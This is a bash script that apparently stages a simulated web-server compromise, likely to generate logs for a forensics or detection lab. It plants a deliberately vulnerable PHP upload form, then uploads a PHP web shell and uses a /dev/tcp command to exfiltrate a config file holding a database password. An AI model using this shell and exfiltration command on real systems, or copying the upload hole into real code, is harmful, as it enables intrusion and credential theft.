# shellcheck shell=bash disable=SC2034
HOST=www01
FORMAT=RAW

pages() {
    mkdir -p /srv/www/up /srv/run /srv/tmp
    chmod 777 /srv/www/up /srv/tmp
    echo 'welcome' >/srv/www/index.html
    echo '<?php echo date("c"), " ", getmypid();' >/srv/www/time.php
    # The hole: an upload form that keeps the name.
    echo '<?php move_uploaded_file($_FILES["f"]["tmp_name"], "/srv/www/up/" . basename($_FILES["f"]["name"])); echo "kept";' \
        >/srv/www/upload.php
    echo "db_password=winter" >/srv/www/config.ini
}

servers() {
    cat >/srv/fpm.conf <<CONF
[global]
error_log = /srv/run/fpm.log
daemonize = no
[www]
user = www-data
group = www-data
listen = /srv/run/fpm.sock
listen.mode = 0666
pm = static
pm.max_children = 2
php_admin_value[sys_temp_dir] = /srv/tmp
php_admin_value[upload_tmp_dir] = /srv/tmp
CONF
    cat >/srv/nginx.conf <<'CONF'
user www-data;
worker_processes 1;
daemon off;
pid /srv/run/nginx.pid;
error_log /srv/run/error.log;
events { worker_connections 64; }
http {
    access_log /srv/run/access.log;
    client_body_temp_path /srv/tmp/body; proxy_temp_path /srv/tmp/p; fastcgi_temp_path /srv/tmp/f;
    uwsgi_temp_path /srv/tmp/u; scgi_temp_path /srv/tmp/s;
    server {
        listen 8080;
        root /srv/www;
        location ~ \.php$ {
            include /etc/nginx/fastcgi_params;
            fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
            fastcgi_pass unix:/srv/run/fpm.sock;
        }
    }
}
CONF
    inside "$(echo /usr/sbin/php-fpm[0-9]*)" -F -y /srv/fpm.conf >/dev/null 2>&1 &
    inside /usr/sbin/nginx -c /srv/nginx.conf >/dev/null 2>&1 &
}

visit() { outside curl -s --interface "$1" "http://10.88.0.10:8080/$2" "${@:3}" >/dev/null; }

scenario() {
    pages
    servers
    sleep 3
    local page
    for page in "" time.php time.php; do visit 192.0.2.7 "$page"; sleep 0.4; done
    outside /usr/bin/python3 -S -B -m http.server --bind 203.0.113.9 443 --directory /srv/www >/dev/null 2>&1 &
    echo '<?php system($_GET["c"]);' >"$work/s.php"
    visit 198.51.100.23 upload.php -F "f=@$work/s.php;filename=s.php"
    sleep 1
    for page in "" time.php; do visit 192.0.2.7 "$page"; sleep 0.4; done
    visit 198.51.100.23 up/s.php -G --data-urlencode "c=id"
    sleep 1
    visit 192.0.2.7 time.php
    sleep 0.4
    visit 198.51.100.23 up/s.php -G --data-urlencode "c=bash -c 'exec 3<>/dev/tcp/203.0.113.9/443; cat /srv/www/config.ini >&3'"
    sleep 1
    visit 192.0.2.7 time.php
    sleep 1
    pkill -F /srv/run/nginx.pid || true
    pkill php-fpm || true
}
